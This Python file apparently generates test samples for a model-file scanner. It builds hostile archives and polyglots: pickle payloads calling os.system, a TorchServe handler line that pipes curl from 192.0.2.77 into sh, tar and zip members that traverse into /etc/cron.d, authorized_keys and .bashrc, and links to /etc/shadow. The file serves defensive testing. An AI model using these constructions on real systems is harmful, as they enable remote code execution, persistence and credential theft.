"""Archives that hold a payload, that readers disagree on, or that write outside of where they are unpacked."""

import io
import pickle
import struct
import tarfile
import zlib
from collections.abc import Iterator

import h5py

from .carried import EVIL
from .sample import COMMAND, MARKER, Sample

__all__ = ["Member", "samples", "tar_of", "zip_of"]

GOOD = pickle.dumps({"w": [0.1, 0.2], "b": 0.0})
SCRIPT = f"import os\nos.system('{COMMAND}')\n".encode()


class Member:
    """One member of a zip, with the fields of its two headers as they are to be written."""

    def __init__(self, name: str, data: bytes, **lies: object) -> None:
        self.name, self.data = name.encode(), data
        self.lies = lies

    def packed(self) -> tuple[int, bytes]:
        way = int(self.lies.get("way", 0))
        if way == 8:
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            return 8, deflate.compress(self.data) + deflate.flush()
        return way, self.data


def zip_of(*members: Member, prefix: bytes = b"", comment: bytes = b"", suffix: bytes = b"") -> bytes:
    """A zip written header by header. A member's `lies`: `flags`, `crc`, `local_name`, `size`, `local_size`, `way`,
    `local_way`, `offset` of another member, `hidden` (no central entry)."""
    body, central, count = bytearray(prefix), bytearray(), 0
    for one in members:
        way, data = one.packed()
        lies, at = one.lies, len(body)
        crc = int(lies.get("crc", zlib.crc32(one.data)))
        flags = int(lies.get("flags", 0))
        local = lies.get("local_name", one.name)
        assert isinstance(local, bytes)
        size = int(lies.get("local_size", len(data)))
        body += (
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                flags,
                int(lies.get("local_way", way)),
                0,
                33,
                crc,
                size,
                int(lies.get("local_size", len(one.data))),
                len(local),
                0,
            )
            + local
            + data
        )
        if lies.get("hidden"):
            continue
        count += 1
        size = int(lies.get("size", len(data)))
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                flags,
                way,
                0,
                33,
                crc,
                size,
                int(lies.get("size", len(one.data))),
                len(one.name),
                0,
                0,
                0,
                0,
                int(lies.get("attributes", 0)),
                int(lies.get("offset", at)),
            )
            + one.name
        )
    start = len(body)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, len(comment))
    return bytes(body + central) + end + comment + suffix


def tar_of(members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:  # type: ignore[call-overload]
        for name, target in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            archive.addfile(entry)
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return file.getvalue()


def torch_zip(payload: bytes = EVIL, top: str = "archive", **lies: object) -> bytes:
    return zip_of(
        Member(f"{top}/data.pkl", payload, **lies),
        Member(f"{top}/byteorder", b"little"),
        Member(f"{top}/data/0", bytes(16)),
        Member(f"{top}/version", b"3\n"),
    )


def _disagreeing() -> Iterator[tuple[str, str, bytes, str]]:
    yield "bad CRC on data.pkl", "model.pt", torch_zip(crc=0xDEADBEEF), ""
    yield "flag says encrypted", "model.pt", torch_zip(flags=1), ""
    yield "flag says strong encryption", "model.pt", torch_zip(flags=0x41), ""
    yield "local name differs", "model.pt", torch_zip(local_name=b"archive/data.txt"), "torch"
    yield "central name differs by case only", "model.pt", torch_zip(local_name=b"archive/DATA.PKL"), "torch"
    yield "local size is nought", "model.pt", torch_zip(local_size=0), "torch"
    yield "local way differs", "model.pt", torch_zip(local_way=8), "torch"
    yield "central flag of a patched entry", "model.pt", torch_zip(flags=0x2000), ""
    good, bad = Member("archive/data.pkl", GOOD), Member("archive/data.pkl", EVIL)
    rest = (Member("archive/version", b"3\n"), Member("archive/data/0", bytes(8)))
    yield "two data.pkl, the first bad", "model.pt", zip_of(bad, good, *rest), ""
    yield "two data.pkl, the last bad", "model.pt", zip_of(good, bad, *rest), ""
    hidden = Member("archive/data.pkl", EVIL, hidden=True)
    yield "a member without a central entry", "model.pt", zip_of(hidden, good, *rest), ""
    yield "junk before the archive", "model.pt", zip_of(bad, *rest, prefix=b"\x7fJUNK" * 200), ""
    inner = zip_of(good, *rest)
    yield "an archive in the comment of another", "model.pt", zip_of(bad, *rest, comment=inner[-400:]), ""
    yield "an archive after another", "model.pt", inner + zip_of(bad, *rest), ""
    yield "a pickle before the archive", "model.pt", EVIL + inner, "pickle"
    pointing = Member("archive/data.pkl", GOOD)
    evil_at = Member("archive/data/1", EVIL)
    pointing.lies["offset"] = 0
    yield "central entry points at another member", "model.pt", zip_of(evil_at, pointing, *rest), ""
    yield "name with a NUL byte", "model.pt", zip_of(Member("archive/data.pkl\x00.txt", EVIL), *rest), ""
    yield "pickle under no known name", "model.zip", zip_of(Member("readme", EVIL)), ""
    yield "data.pkl in an odd folder", "model.ckpt", torch_zip(top="checkpoint_v2/best"), ""
    yield "deflated member", "model.zip", zip_of(Member("clf.pkl", EVIL, way=8)), ""


def _nested() -> Iterator[tuple[str, str, bytes]]:
    pickled = {"model/weights.pkl": EVIL, "model/config.json": b"{}"}
    yield "tar", "model.tar", tar_of(pickled)
    yield "tar.gz, as SageMaker has it", "model.tar.gz", tar_of(pickled, "w:gz")
    yield "tar.bz2", "model.tbz", tar_of(pickled, "w:bz2")
    yield "tar.xz called .bin", "weights.bin", tar_of(pickled, "w:xz")
    yield "tar in zip in tar.gz", "bundle.tgz", tar_of({"a.zip": zip_of(Member("m.tar", tar_of(pickled)))}, "w:gz")
    yield "zip five deep", "bundle.zip", _deep(5)
    yield (
        "script of a handler in a .mar",
        "model.mar",
        zip_of(
            Member("handler.py", b"import os\nos.system('curl http://192.0.2.77/s | sh')\n", way=8),
            Member("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "handler.py"}}'),
        ),
    )
    yield "tar of GNU long names", "model.tar", tar_of({"a/" * 70 + "model.pkl": EVIL})
    yield "zip of npz of pickles", "all.zip", zip_of(Member("p.npz", zip_of(Member("arr_0.npy", _npy(EVIL)))))
    try:
        import py7zr
    except ImportError:
        return
    for name, filters in (
        ("7z", None),
        ("7z, bzip2", [{"id": py7zr.FILTER_BZIP2}]),
        ("7z, stored", [{"id": py7zr.FILTER_COPY}]),
        ("7z, deflate", [{"id": py7zr.FILTER_DEFLATE}]),
    ):
        file = io.BytesIO()
        with py7zr.SevenZipFile(file, "w", filters=filters) as archive:
            archive.writestr(EVIL, "model.pkl")
            archive.writestr(b"{}", "config.json")
        yield name, "model.7z" if filters is None else "pytorch_model.bin", file.getvalue()


def _npy(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _deep(levels: int) -> bytes:
    data = zip_of(Member("clf.pkl", EVIL, way=8))
    for level in range(levels):
        data = zip_of(Member(f"part{level}.zip", data, way=8))
    return data


def _outside() -> Iterator[tuple[str, str, bytes]]:
    line = b"* * * * * root true\n"
    yield "tar with ..", "model.tar.gz", tar_of({"model/w.npy": b"\x93NUMPY", "../../../../etc/cron.d/m": line}, "w:gz")
    yield "tar with an absolute path", "model.tar", tar_of({"/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA x\n"})
    yield "tar with a link and a file behind it", "model.nemo", tar_of({"out/m": line}, links={"out": "/etc/cron.d"})
    yield "tar with a link to a secret", "model.tar", tar_of({"config.json": b"{}"}, links={"vocab.txt": "/etc/shadow"})
    yield "zip with ..", "model.zip", zip_of(Member("../../.bashrc", b"true\n"), Member("config.json", b"{}"))
    yield (
        "zip with backslashes",
        "model.zip",
        zip_of(Member("..\\..\\startup\\x.bat", b"rem\n"), Member("a.json", b"{}")),
    )
    yield "zip with a link out", "model.zip", zip_of(Member("vocab.txt", b"/etc/passwd", attributes=0o120777 << 16))
    yield (
        ".keras with ..",
        "model.keras",
        zip_of(
            Member("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}'),
            Member("metadata.json", b'{"keras_version": "3.5.0"}'),
            Member("assets/../../../../tmp/vallum-none", line),
            Member("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
        ),
    )
    yield "hard link in a tar", "model.tar", _hard_link()


def _hard_link() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo("vocab.txt")
        entry.type, entry.linkname = tarfile.LNKTYPE, "/etc/passwd"
        archive.addfile(entry)
    return file.getvalue()


def _two_at_once() -> Iterator[tuple[str, dict[str, bytes], str]]:
    name = f"cos\nsystem\n(S'touch {MARKER}'\ntR."
    yield "a tar whose first name is a pickle", {"model.tar": tar_of({name: b"weights"})}, "pickle"
    yield "a pickle called safetensors", {"model.safetensors": EVIL}, "pickle"
    yield "a pickle called gguf", {"model.gguf": EVIL}, "pickle"
    yield "a pickle called onnx", {"model.onnx": EVIL}, "pickle"
    yield "a pickle called json", {"config.json": pickle.dumps({"a": 1}, 0)[:-1] + b"0cos\nsystem\n(S'true'\ntR."}, ""
    yield (
        "a pickle called txt, in text opcodes",
        {"vocab.txt": f"(lp0\n0cos\nsystem\n(S'{COMMAND}'\ntR.".encode()},
        "pickle",
    )
    yield "a pickle called h5", {"model.h5": EVIL}, "pickle"
    yield "a pickle in the user block of HDF5", {"model.h5": _user_block()}, "pickle"
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    tensors = struct.pack("<Q", len(header)) + header + bytes(8)
    yield "a torch zip behind safetensors", {"model.safetensors": tensors + torch_zip()}, ""
    yield (
        "python with an archive at its end",
        {"model.py": SCRIPT + b"\x00" * 3 + zip_of(Member("__main__.py", SCRIPT))},
        "",
    )
    yield "a zip application called .pt", {"model.pt": zip_of(Member("__main__.py", SCRIPT, way=8))}, ""


def _user_block() -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w", userblock_size=2048) as weights:
        weights["w"] = [0.5, 0.25]
    return EVIL.ljust(2048, b"\x00") + file.getvalue()[2048:]


def samples() -> Iterator[Sample]:
    for name, file, data, proof in _disagreeing():
        yield Sample("zip: readers disagree", name, {file: data}, proof=proof)
    for name, file, data in _nested():
        yield Sample("archive of a payload", name, {file: data})
    for name, file, data in _outside():
        yield Sample("archive that writes outside", name, {file: data})
    for name, files, proof in _two_at_once():
        yield Sample("two formats at once", name, files, proof=proof)
